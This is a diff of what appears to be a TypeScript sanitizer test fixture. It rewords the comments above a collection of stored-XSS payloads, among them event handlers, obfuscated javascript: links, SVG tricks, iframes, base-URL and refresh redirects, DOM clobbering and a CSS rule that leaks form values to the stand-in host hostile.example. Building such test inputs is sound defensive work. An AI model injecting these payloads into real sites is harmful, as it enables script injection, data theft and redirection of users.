@@ -1,11 +1,11 @@
-/** What each script does: it leaves a mark on the window and opens a dialog. */
+/** The script in each piece of HTML: sets a global variable and opens a dialog. */
 const js = 'window.canary=1;alert(1)'
-/** Where each request would go. */
+/** The host that each piece of HTML tries to reach. */
 const host = 'https://hostile.example'
 
 /**
- * What somebody could store who got hold of an administrator's session (D24). Each piece closes what it opens, so
- * that all of them together make one text.
+ * HTML that an attacker with an administrator's session could store (D24). Each piece closes the tags that it opens, so
+ * that all pieces can be joined into one text.
  */
 export const hostileHtml: Record<string, string> = {
   // Script
@@ -28,7 +28,7 @@ export const hostileHtml: Record<string, string> = {
   marquee: `<marquee onstart="${js}">a</marquee>`,
   'video and audio': `<video autoplay src="x" onerror="${js}"></video><audio src="x" onerror="${js}"></audio>`,
 
-  // Addresses
+  // URLs
   'javascript link': `<a href="javascript:${js}">a</a>`,
   'javascript link in entities': `<a href="&#106;&#x61;vascript&colon;${js}">a</a>`,
   'javascript link with blanks': `<a href=" &#1; java&Tab;script&NewLine;:${js}">a</a>`,
@@ -42,7 +42,7 @@ export const hostileHtml: Record<string, string> = {
   'pinging link': `<a href="/en" ping="${host}/ping" download target="_blank" rel="opener">a</a>`,
   'image map': `<img usemap="#m"><map name="m"><area href="javascript:${js}" coords="0,0,9,9"></map>`,
 
-  // Other namespaces, and what changes when it is parsed a second time
+  // Other namespaces, and HTML that changes when it is parsed a second time
   'svg script': `<svg><script>${js}</script></svg>`,
   'svg handler': `<svg onload="${js}"><circle r="9"/></svg>`,
   'svg animation': `<svg><a><animate attributeName="href" values="javascript:${js}"/><text>a</text></a></svg>`,
@@ -59,23 +59,23 @@ export const hostileHtml: Record<string, string> = {
 
   // Styles
   'style element': `<style>@import '${host}/a.css';header{display:none}</style>`,
-  'style that tells secrets': `<style>input[value^="a"]{background:url(${host}/?a)}</style>`,
+  'style that leaks form values': `<style>input[value^="a"]{background:url(${host}/?a)}</style>`,
   'style attribute': `<p style="background:url(${host}/a.png)">a</p>`,
   'overlay by style':
     '<div style="position:fixed;inset:0;z-index:9999"><a href="https://hostile.example">a</a></div>',
-  'overlay by our classes':
+  'overlay by classes of the site':
     '<div class="fixed inset-0 z-50"><a class="absolute inset-0" href="/en">a</a></div>',
   'overlay by popover': '<div popover id="p" open>a</div><dialog open>a</dialog>',
   stylesheet: `<link rel="stylesheet" href="${host}/a.css"><link rel="prefetch" href="${host}/b">`,
 
-  // Documents within the document
+  // Embedded documents
   iframe: `<iframe src="${host}"></iframe><iframe src="javascript:${js}"></iframe>`,
   'iframe with its own document': `<iframe srcdoc="<script>parent.${js}</script>"></iframe>`,
   'object and embed': `<object data="javascript:${js}"></object><embed src="${host}/a.swf"><applet code="A"></applet>`,
   portal: `<portal src="${host}"></portal><frameset><frame src="${host}"></frameset>`,
 
   // The page itself
-  'base address': `<base href="${host}" target="_blank">`,
+  'base URL': `<base href="${host}" target="_blank">`,
   refresh: `<meta http-equiv="refresh" content="0;url=${host}">`,
   'policy and cookie': `<meta http-equiv="Content-Security-Policy" content="default-src *"><meta name="robots" content="noindex">`,
   'second title': '<title>Hacked</title><h1>Hacked</h1>',
@@ -89,20 +89,20 @@ export const hostileHtml: Record<string, string> = {
   'custom element': `<x-y onclick="${js}" style="position:fixed">a</x-y>`,
   'names that hide functions':
     '<img name="getElementById"><form name="body"></form><a id="cookie" name="querySelector">a</a>',
-  'ids of our own':
+  'ids of the site':
     '<p id="root">a</p><p id="main">b</p><a id="__staticRouterHydrationData" href="/en">c</a>',
   'keyboard and editing': '<p tabindex="1" accesskey="s" contenteditable="true" draggable="true">a</p>',
   'live region and role': '<p role="alert" aria-live="assertive" aria-modal="true" data-state="open">a</p>',
   'hidden from some': '<p hidden inert aria-hidden="true">a</p>',
 
-  // Size and signs
+  // Size and characters
   'deep nesting': `${'<div>'.repeat(1000)}<img src=x onerror=${js}>${'</div>'.repeat(1000)}`,
   'many attributes': `<p ${Array.from({ length: 500 }, (_, n) => `onx${n}=1`).join(' ')} onclick="${js}">a</p>`,
-  'signs that are not there': `<img src=x on&#0;error=${js}><a href="java&#0;script:${js}">a</a>`,
-  'signs that look alike': `\uff1cscript\uff1e${js}\uff1c/script\uff1e <img src=x \u017fonerror=${js}>`,
+  'null characters': `<img src=x on&#0;error=${js}><a href="java&#0;script:${js}">a</a>`,
+  'characters that look alike': `\uff1cscript\uff1e${js}\uff1c/script\uff1e <img src=x \u017fonerror=${js}>`,
 }
 
-/** What swallows everything after it, so that each has to be alone. */
+/** HTML that swallows everything after it. The pieces cannot be joined. */
 export const unclosedHtml: Record<string, string> = {
   plaintext: `<p>a</p><plaintext><img src=x onerror=${js}>`,
   comment: `<p>a</p><!-- <img src=x onerror=${js}>`,
